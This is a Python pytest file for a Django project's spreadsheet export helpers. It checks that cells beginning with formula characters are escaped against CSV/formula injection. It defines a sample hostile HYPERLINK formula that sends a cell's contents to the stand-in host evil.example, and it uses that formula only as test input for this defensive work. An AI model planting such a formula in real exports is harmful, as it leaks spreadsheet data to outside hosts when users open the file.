"""``safe_cell``: the one function every XLSX and CSV cell written from user text goes through
(OWASP's guidance on CSV injection)."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils.translation import gettext_lazy, override
from openpyxl import Workbook, load_workbook

import setka
from setka.core.exports import safe_cell, safe_row

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Жмите")'


@pytest.mark.parametrize(
    "text",
    [HOSTILE, "=1+1", "+7 (39550) 9-12-05", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
)
def test_safe_cell_prefixes_text_starting_with_a_formula_character(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Иванова", "7Б", "", " =1+1", "a=b", 5, -3, 2.5, -0.5, Decimal("-4.25"), None, True,
     dt.date(2026, 11, 26)],
)  # fmt: skip
def test_safe_cell_leaves_other_values_alone(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_safe_cell_turns_a_lazy_translation_into_text():
    with override("en"):
        assert safe_cell(gettext_lazy("Student")) == "Student"


def test_safe_row_in_a_workbook_is_text_not_a_formula():
    book = Workbook()
    book.active.append(safe_row([HOSTILE, -3, "=1+1"]))
    out = io.BytesIO()
    book.save(out)

    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())

    assert [c.data_type for c in cells] == ["s", "n", "s"]
    assert [c.value for c in cells] == ["'" + HOSTILE, -3, "'=1+1"]


def test_every_spreadsheet_writer_goes_through_safe_cell():
    """A module that writes a workbook or a CSV file passes its cells through ``safe_row`` /
    ``safe_cell`` (CONVENTIONS.md, "Exports")."""
    root = Path(setka.__file__).parent
    writers = [
        path
        for path in root.rglob("*.py")
        if any(s in path.read_text() for s in ("import Workbook", "csv.writer("))
    ]

    assert writers
    assert [str(p.relative_to(root)) for p in writers if "safe_row" not in p.read_text()] == []
